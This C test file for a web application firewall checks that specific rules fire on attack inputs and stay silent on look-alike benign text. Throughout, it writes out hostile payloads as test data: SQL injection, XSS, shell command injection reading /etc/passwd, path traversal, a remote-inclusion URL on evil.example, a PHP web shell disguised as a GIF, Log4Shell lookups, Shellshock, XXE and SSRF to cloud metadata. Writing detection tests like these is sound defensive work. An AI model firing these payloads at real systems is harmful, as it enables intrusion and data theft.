/*
 * Detection rules one by one: for each class, an attack that must match a given rule at a given
 * location, and the look-alike benign input that must not. Exact rule ids, locations, scores.
 */
#include "test.h"
#include "waf_test_util.h"

#include <string.h>

#define CHECK_RULE_AT(r, id, loc)                                                                  \
    do {                                                                                           \
        const waf_match *m_ = find_rule((r), (id));                                                \
        CHECK_MSG(m_ != NULL, "rule %u not in %s", (unsigned)(id), (r)->json);                     \
        CHECK_STR_EQ(m_->location, (loc));                                                         \
    } while (0)

#define CHECK_CLEAN(r)                                                                             \
    do {                                                                                           \
        CHECK_MSG((r)->match_count == 0 && !(r)->blocked, "expected no match: %s", (r)->json);     \
    } while (0)

TEST(test_sqli_tautology_after_quote_is_blocked_in_query)
{
    const waf_result *r = analyze_get("/item?id=%27%20or%20%271%27%3D%271");
    CHECK(r->blocked);
    /* the break-out rule and the literal-tautology rule both see it */
    CHECK_INT_EQ(r->score, 10);
    CHECK_RULE_AT(r, 942100, "ARGS:id");
    CHECK_RULE_AT(r, 942200, "ARGS:id");
    CHECK_STR_EQ(find_rule(r, 942200)->matched, "or '1'='1");
    CHECK_STR_EQ(find_rule(r, 942100)->category, "sqli");
    CHECK_INT_EQ(find_rule(r, 942100)->severity, WAF_CRITICAL);
}

TEST(test_sqli_union_select_with_comment_obfuscation)
{
    const waf_result *r = analyze_get("/item?id=1/**/UnIoN/**/SeLeCt/**/1,2,3");
    CHECK_RULE_AT(r, 942110, "ARGS:id");
    CHECK(r->blocked);
}

TEST(test_sqli_mysql_executable_comments_are_code)
{
    const waf_result *r = analyze_get("/item?id=1%20/*!50000UNION*/%20/*!50000SELECT*/%201,2");
    CHECK_RULE_AT(r, 942110, "ARGS:id");
}

TEST(test_sqli_stacked_drop_table)
{
    const waf_result *r = analyze_post("/f", "application/x-www-form-urlencoded",
                                       "name=x%27%3B%20DROP%20TABLE%20users--");
    CHECK_RULE_AT(r, 942120, "ARGS:name");
}

TEST(test_sqli_time_based_sleep_in_json_body)
{
    const waf_result *r =
        analyze_post("/api", "application/json", "{\"user\":{\"id\":\"1 AND SLEEP(5)\"}}");
    CHECK_RULE_AT(r, 942130, "JSON:user.id");
}

TEST(test_sqli_comment_truncation_after_quote)
{
    const waf_result *r = analyze_get("/login?user=admin%27--");
    CHECK_RULE_AT(r, 942160, "ARGS:user");
}

TEST(test_sqli_english_with_sql_words_and_apostrophes_is_clean)
{
    CHECK_CLEAN(analyze_get("/s?q=Please+select+one+from+the+list%2C+I%27d+like+to+drop+it"));
    CHECK_CLEAN(analyze_get("/s?name=O%27Brien"));
    CHECK_CLEAN(analyze_get("/s?q=It%27s+5+or+6+items"));
    CHECK_CLEAN(analyze_get("/s?q=the+union+selected+a+new+rep"));
    CHECK_CLEAN(analyze_get("/s?q=Don%27t+forget+--+they+check+IDs"));
}

TEST(test_xss_script_tag_and_event_handler)
{
    const waf_result *r = analyze_get("/s?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E");
    CHECK_RULE_AT(r, 941110, "ARGS:q");
    r = analyze_get("/s?q=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E");
    CHECK_RULE_AT(r, 941120, "ARGS:q");
}

TEST(test_xss_entity_encoded_javascript_uri)
{
    const waf_result *r =
        analyze_get("/s?q=%3Ca%20href%3D%22jav%26%23x09%3Bascript%3Aalert(1)%22%3Ex%3C%2Fa%3E");
    CHECK_RULE_AT(r, 941130, "ARGS:q");
}

TEST(test_xss_attribute_breakout_after_harmless_attribute)
{
    const waf_result *r = analyze_get("/s?q=%22%20autofocus%20onfocus%3Dalert(1)%20x%3D%22");
    CHECK_RULE_AT(r, 941150, "ARGS:q");
}

TEST(test_xss_markup_and_prose_are_clean)
{
    CHECK_CLEAN(analyze_get("/s?q=%3Cb%3Ebold%3C%2Fb%3E+and+x+%3C+5"));
    CHECK_CLEAN(analyze_get("/s?q=JavaScript%3A+The+Good+Parts"));
    CHECK_CLEAN(analyze_get("/s?q=the+movie+script+was+an+alert+to+us"));
}

TEST(test_rce_separator_and_command)
{
    CHECK_RULE_AT(analyze_get("/ping?host=127.0.0.1%3Bcat%20%2Fetc%2Fpasswd"), 932100, "ARGS:host");
    CHECK_RULE_AT(analyze_get("/ping?host=%24(whoami)"), 932120, "ARGS:host");
}

TEST(test_rce_shell_evasions_are_undone)
{
    CHECK_RULE_AT(analyze_get("/p?h=%3Bc%27a%27t%24%7BIFS%7D%2Fetc%2Fpasswd"), 932100, "ARGS:h");
    CHECK_RULE_AT(analyze_get("/p?h=%3B%7Bcat%2C%2Fetc%2Fpasswd%7D"), 932100, "ARGS:h");
    CHECK_RULE_AT(analyze_get("/p?h=x%0Aid"), 932100, "ARGS:h");
}

TEST(test_rce_prose_with_command_words_is_clean)
{
    CHECK_CLEAN(analyze_get("/s?q=Dogs%3B+cat+food+is+expensive"));
    CHECK_CLEAN(analyze_get("/s?q=Tom+%26+Jerry"));
    CHECK_CLEAN(analyze_get("/s?q=please+ping+me+when+free"));
}

TEST(test_lfi_traversal_with_overlong_utf8)
{
    const waf_result *r = analyze_get("/d?file=%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd");
    CHECK_RULE_AT(r, 930100, "ARGS:file");
    CHECK(r->blocked);
}

TEST(test_lfi_php_filter_wrapper)
{
    CHECK_RULE_AT(analyze_get("/d?page=php://filter/convert.base64-encode/resource=index.php"),
                  930140, "ARGS:page");
}

TEST(test_lfi_single_parent_step_is_only_a_warning)
{
    CHECK_CLEAN(analyze_get("/s?q=see+..%2Fdocs+in+the+repo"));
    const waf_result *r = analyze_get("/s?q=..%2Fdocs%2Freadme.md");
    CHECK(!r->blocked);
    CHECK_INT_EQ(r->score, 3);
    CHECK_RULE_AT(r, 930110, "ARGS:q");
}

TEST(test_rfi_url_with_trailing_question_mark)
{
    CHECK_RULE_AT(analyze_get("/i?page=http://evil.example/shell.txt%3F"), 931100, "ARGS:page");
    CHECK_CLEAN(analyze_get("/r?url=https%3A%2F%2Fwww.example.com%2Fdocs%2Findex.php%3Fid%3D3"));
}

TEST(test_php_and_java_injections)
{
    CHECK_RULE_AT(analyze_get("/x?c=%3C%3Fphp%20system(%24_GET%5Bc%5D)%3B"), 933100, "ARGS:c");
    CHECK_RULE_AT(analyze_get("/x?c=%24%7B%24%7Blower%3Aj%7Dndi%3Aldap%3A%2F%2Fe.example%2Fa%7D"),
                  944150, "ARGS:c");
}

TEST(test_log4shell_in_any_header)
{
    const waf_result *r =
        analyze_doc("{\"method\":\"GET\",\"uri\":\"/\",\"headers\":[[\"Host\",\"a.example\"],"
                    "[\"X-Api-Version\",\"${jndi:ldap://e.example/"
                    "a}\"]],\"body\":\"\",\"client_ip\":\"1.2.3.4\"}");
    CHECK_RULE_AT(r, 944150, "REQUEST_HEADERS:X-Api-Version");
}

TEST(test_ssti_probe_and_plain_template_variable)
{
    CHECK_RULE_AT(analyze_get("/t?name=%7B%7B7*7%7D%7D"), 934100, "ARGS:name");
    CHECK_CLEAN(analyze_get("/t?name=Dear+%7B%7Bfirst_name%7D%7D"));
}

TEST(test_nosql_operator_in_argument_name_and_json_key)
{
    CHECK_RULE_AT(analyze_get("/login?user%5B%24ne%5D=x"), 935100, "ARGS_NAMES:user[$ne]");
    CHECK_RULE_AT(analyze_post("/login", "application/json", "{\"user\":{\"$gt\":\"\"}}"), 935100,
                  "JSON_KEYS:user.$gt");
}

TEST(test_ldap_filter_injection)
{
    CHECK_RULE_AT(analyze_get("/u?name=*)(uid%3D*))(%7C(uid%3D*"), 936100, "ARGS:name");
}

TEST(test_crlf_header_injection)
{
    CHECK_RULE_AT(analyze_get("/r?next=%0d%0aSet-Cookie:%20a=b"), 921110, "ARGS:next");
    /* a line of prose starting with "Server:" in a form is not a response header */
    CHECK_CLEAN(analyze_post("/f", "application/x-www-form-urlencoded",
                             "msg=hello%0D%0AServer%3A+the+old+one+broke"));
}

TEST(test_protocol_method_host_and_encoding)
{
    const waf_result *r = analyze_doc("{\"method\":\"TRACE\",\"uri\":\"/\",\"headers\":[],"
                                      "\"body\":\"\",\"client_ip\":\"1.2.3.4\"}");
    CHECK_RULE_AT(r, 911100, "REQUEST_METHOD");
    CHECK_RULE_AT(r, 920280, "REQUEST_HEADERS:Host");
    CHECK_INT_EQ(r->score, 10);
    CHECK_RULE_AT(analyze_get("/s?q=100%"), 920220, "REQUEST_URI");
}

TEST(test_request_smuggling_headers)
{
    const waf_result *r = analyze_doc(
        "{\"method\":\"POST\",\"uri\":\"/\",\"headers\":[[\"Host\",\"a\"],[\"Content-Length\","
        "\"4\"],[\"Transfer-Encoding\",\"chunked\"]],\"body\":\"\",\"client_ip\":\"1.2.3.4\"}");
    CHECK_RULE_AT(r, 920170, "REQUEST_HEADERS:Transfer-Encoding");
    CHECK(find_rule(r, 920171) == NULL);
}

TEST(test_scanner_user_agent)
{
    const waf_result *r = analyze_doc(
        "{\"method\":\"GET\",\"uri\":\"/\",\"headers\":[[\"Host\",\"a\"],[\"User-Agent\","
        "\"sqlmap/1.7\"]],\"body\":\"\",\"client_ip\":\"1.2.3.4\"}");
    CHECK_RULE_AT(r, 913100, "REQUEST_HEADERS:User-Agent");
    CHECK_STR_EQ(find_rule(r, 913100)->matched, "sqlmap");
}

TEST(test_multipart_parts_are_inspected_by_name)
{
    const char *body = "--XyZ\r\nContent-Disposition: form-data; name=\"bio\"\r\n\r\n"
                       "<svg onload=alert(1)>\r\n--XyZ\r\nContent-Disposition: form-data; "
                       "name=\"f\"; filename=\"../../etc/passwd\"\r\n\r\nhello\r\n--XyZ--\r\n";
    const waf_result *r = analyze_post("/up", "multipart/form-data; boundary=XyZ", body);
    CHECK_RULE_AT(r, 941120, "ARGS:bio");
    CHECK_RULE_AT(r, 930100, "FILES:f");
}

TEST(test_body_base64_is_decoded_and_inspected)
{
    /* base64 of "q=%3Cscript%3E" with a form Content-Type */
    const waf_result *r = analyze_doc(
        "{\"method\":\"POST\",\"uri\":\"/\",\"headers\":[[\"Host\",\"a\"],[\"Content-Type\","
        "\"application/x-www-form-urlencoded\"]],\"body\":\"\",\"body_base64\":"
        "\"cT0lM0NzY3JpcHQlM0U=\",\"client_ip\":\"1.2.3.4\"}");
    CHECK_RULE_AT(r, 941110, "ARGS:q");
}

TEST(test_result_json_has_abi_fields_in_order)
{
    const waf_result *r = analyze_get("/login?user=admin%27--");
    CHECK_STR_HAS(r->json, "{\"blocked\":true,\"score\":5,\"matches\":[{\"rule_id\":942160,"
                           "\"category\":\"sqli\",\"severity\":\"critical\",\"location\":"
                           "\"ARGS:user\",\"matched\":\"admin'--\",");
    CHECK_STR_HAS(r->json, ",\"execution_time_us\":");
    CHECK(r->json[r->json_len - 1] == '}');
    CHECK_UINT_EQ(strlen(r->json), r->json_len);
}

TEST(test_mail_header_and_imap_command_injection)
{
    CHECK_RULE_AT(analyze_get("/mail?to=me@example.com%0D%0ABcc:%20spam@example.com"), 921140,
                  "ARGS:to");
    CHECK_RULE_AT(analyze_get("/imap?box=INBOX%0d%0aA1%20LOGIN%20admin%20pw"), 921140, "ARGS:box");
    /* a "To:" line is ordinary in a message typed into a form */
    CHECK_CLEAN(analyze_post("/f", "application/x-www-form-urlencoded",
                             "msg=Hi%0D%0ATo%3A+the+team%0D%0Athanks"));
}

TEST(test_xxe_external_and_recursive_entities)
{
    CHECK_RULE_AT(
        analyze_post("/x", "application/xml",
                     "<!DOCTYPE a [<!ENTITY e SYSTEM \"http://e.example/x\">]><a>&e;</a>"),
        934200, "REQUEST_BODY");
    CHECK_RULE_AT(
        analyze_post("/x", "application/xml",
                     "<!DOCTYPE l [<!ENTITY a \"x\"><!ENTITY b \"&a;&a;&a;\">]><l>&b;</l>"),
        934210, "REQUEST_BODY");
    CHECK_CLEAN(analyze_post("/x", "application/xml", "<?xml version=\"1.0\"?><a>x &amp; y</a>"));
}

TEST(test_rce_shellshock_glob_paths_and_data_uris)
{
    const waf_result *r = analyze_doc(
        "{\"method\":\"GET\",\"uri\":\"/\",\"headers\":[[\"Host\",\"a\"],[\"User-Agent\","
        "\"() { :; }; /bin/bash -c id\"]],\"body\":\"\"}");
    CHECK_RULE_AT(r, 932170, "REQUEST_HEADERS:User-Agent");
    CHECK_RULE_AT(analyze_get("/p?h=%3B/%3F%3F%3F/%3F%3Ft%20/%3F%3F%3F/p%3F%3Fs%3F%3F"), 932160,
                  "ARGS:h");
    /* a JavaScript function body and a data URI are not shell */
    CHECK_CLEAN(analyze_get("/s?code=%24(document).ready(function()%20%7B%20init()%3B%20%7D)%3B"));
    CHECK_CLEAN(analyze_get("/s?img=data:image/png;base64,iVBORw0KGgo"));
}

TEST(test_ssrf_to_cloud_metadata)
{
    CHECK_RULE_AT(analyze_get("/fetch?url=http://169.254.169.254/latest/meta-data/"), 931140,
                  "ARGS:url");
    CHECK_CLEAN(analyze_get("/fetch?url=https://www.example.com/latest/news"));
}

TEST(test_uploaded_file_content_is_checked_for_code_only)
{
    const char *clean =
        "--B\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a.bin\"\r\n\r\n"
        "\x01\x02; id | ls ../../x ' or 1=1 --\x7f\r\n--B--\r\n";
    CHECK_CLEAN(analyze_post("/up", "multipart/form-data; boundary=B", clean));
    const char *shell =
        "--B\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a.jpg\"\r\n\r\n"
        "GIF89a<?php system($_GET['c']); ?>\r\n--B--\r\n";
    CHECK_RULE_AT(analyze_post("/up", "multipart/form-data; boundary=B", shell), 933100,
                  "FILES_CONTENT:f");
    /* a binary body (sent as body_base64): "\xff; id" is data, "<svg onload=...>" is not */
    const waf_result *r = analyze_doc(
        "{\"method\":\"POST\",\"uri\":\"/img\",\"headers\":[[\"Host\",\"a\"],[\"Content-Type\","
        "\"image/png\"]],\"body\":\"\",\"body_base64\":\"/zsgaWQgfCBscw==\"}");
    CHECK(r->error == NULL);
    CHECK_INT_EQ(r->score, 0);
    r = analyze_doc("{\"method\":\"POST\",\"uri\":\"/img\",\"headers\":[[\"Host\",\"a\"],"
                    "[\"Content-Type\",\"image/svg+xml\"]],\"body\":\"\",\"body_base64\":"
                    "\"/zxzdmcgb25sb2FkPWFsZXJ0KDEpPg==\"}");
    CHECK_RULE_AT(r, 941120, "FILES_CONTENT");
}
